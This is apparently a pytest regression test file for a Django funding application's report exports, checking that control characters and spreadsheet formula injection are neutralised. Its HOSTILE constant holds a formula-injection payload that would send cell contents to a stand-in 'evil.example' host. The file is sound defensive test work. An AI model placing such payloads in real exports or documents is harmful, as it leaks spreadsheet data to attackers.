"""Hostile text in every export (issue 15, item 5): the documents still answer 200 and no cell is a formula.

Probes: a title with ESC or BEL made the statement XLSX and the call summary XLSX 500
(IllegalCharacterError); audit-trail.csv cells began with user text such as =HYPERLINK(...).
Text is stored here directly (as an insider or an older version could have), bypassing the forms.
"""
import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application, AuditEvent, FundingCall
from ledger import verify
from ledger.models import JournalEntry
from reports import journal_export
from reports.audit_trail import csv_lines as audit_csv_lines
from reports.call_summary import render_call_summary_xlsx
from reports.cells import neutralise, restore, xlsx_text
from reports.statement import render_statement_xlsx
from services import corrections
from tests.factories import member

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klicka")\x1b\x07'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def as_client():
    def sign_in(user):
        client = Client()
        client.force_login(user)
        return client
    return sign_in


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x", "'"])
def test_a_cell_that_could_be_a_formula_gets_a_quote_and_comes_back_unchanged(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["-1500.00", "-5", "0.00", "TB-2026-0001", "Anna", ""])
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(text):
    assert neutralise(text) == text and restore(text) == text


def test_control_characters_become_visible_pictures_in_xlsx_text():
    assert xlsx_text("a\x1bb\x07c\td\n") == "a\u241bb\u2407c\td\n"


@pytest.mark.django_db
def test_statement_xlsx_with_control_characters_in_titles_and_names_is_200(paid, applicant, as_client):
    Application.objects.filter(pk=paid.pk).update(title=HOSTILE)
    FundingCall.objects.filter(pk=paid.call_id).update(title="Utlysning\x1b\x07")
    application = Application.objects.get(pk=paid.pk)
    book = load_workbook(io.BytesIO(render_statement_xlsx(application, by=applicant)))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("\u241b" in t for t in texts) and not any("\x1b" in t for t in texts)
    assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
    response = as_client(applicant).get(reverse("reports:statement_xlsx", args=[paid.reference]))
    assert response.status_code == 200


@pytest.mark.django_db
def test_call_summary_xlsx_with_a_control_character_in_a_title_is_200(paid, officer, as_client):
    Application.objects.filter(pk=paid.pk).update(title=HOSTILE)
    FundingCall.objects.filter(pk=paid.call_id).update(title="Utlysning\x1b")
    call = FundingCall.objects.get(pk=paid.call_id)
    load_workbook(io.BytesIO(render_call_summary_xlsx(call, by=officer)))  # opens: the XML is well formed
    response = as_client(officer).get(reverse("reports:call_summary_xlsx", args=[call.pk]))
    assert response.status_code == 200


@pytest.mark.django_db
def test_statement_pdf_with_control_characters_is_200(paid, applicant, as_client):
    Application.objects.filter(pk=paid.pk).update(title=HOSTILE)
    response = as_client(applicant).get(reverse("reports:statement_pdf", args=[paid.reference]))
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


@pytest.mark.django_db
def test_no_audit_trail_cell_begins_like_a_formula(paid, officer, as_client):
    AuditEvent.objects.create(actor_name="@admin", action="update", object_type="application", object_id="1",
                              object_repr=HOSTILE, comment="+SUM(1,2)", from_state="-x", to_state="\tx",
                              changes={"title": ["=A1", "@B2"]})
    text = b"".join(audit_csv_lines(AuditEvent.objects.all())).decode("utf-8")
    cells = _cells(text)
    assert "'" + HOSTILE in cells and "'+SUM(1,2)" in cells and "'@admin" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    response = as_client(officer).get(reverse("reports:audit_trail_csv"))
    body = b"".join(response.streaming_content).decode("utf-8")
    assert response.status_code == 200 and not [c for c in _cells(body) if c.startswith(FORMULA_STARTS)]


@pytest.mark.django_db
def test_journal_csv_is_neutralised_and_still_rebuilds_the_verifiable_chain(paid, region, as_client):
    # A username may begin with @, + or - (Django allows them); the actor column carries it.
    insider = member("officer", region, username="@kontroll")
    entry = JournalEntry.objects.filter(kind=JournalEntry.Kind.CASH_CONTRIBUTION).get()
    corrections.record_correction(entry, by=insider, amount="100.00", reason="=HYPERLINK(\"x\")")
    book = entry.book
    book.refresh_from_db()
    text = b"".join(journal_export.csv_lines(book)).decode("utf-8")
    cells = _cells(text)
    assert "'@kontroll" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-").replace(".", "").isdigit()]
    rebuilt = list(journal_export.entries_from_csv_rows(csv.DictReader(io.StringIO(text, newline=""))))
    assert "@kontroll" in [e["actor"] for e in rebuilt]
    result = verify.verify_entries(rebuilt)
    assert result.ok and result.head_hash == book.head_hash
    response = as_client(insider).get(reverse("reports:journal_csv", args=[book.pk]))
    assert response.status_code == 200
